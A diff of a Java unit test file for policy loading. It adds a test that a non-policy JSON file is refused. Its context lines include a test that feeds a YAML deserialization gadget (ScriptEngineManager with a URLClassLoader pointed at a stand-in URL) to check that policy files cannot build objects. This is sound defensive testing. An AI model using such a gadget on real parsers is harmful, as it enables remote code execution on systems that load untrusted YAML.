@@ -99,6 +99,13 @@ class PolicyFilesTest {
     }
 
     @Test
+    void aFileInPoliciesThatIsNotAPolicyIsRefusedRatherThanIgnored(@TempDir Path tmp) throws IOException {
+        RulesetCompiler.Outcome outcome = withPolicy(tmp, "tender.json", "{\"name\": \"tender\"}");
+        assertFalse(outcome.ok());
+        assertTrue(errors(outcome).startsWith("policies/tender.json: is not a policy"), errors(outcome));
+    }
+
+    @Test
     void aPolicyFileCannotBuildObjects(@TempDir Path tmp) throws IOException {
         RulesetCompiler.Outcome outcome = withPolicy(tmp, "tender.yml", """
                 name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
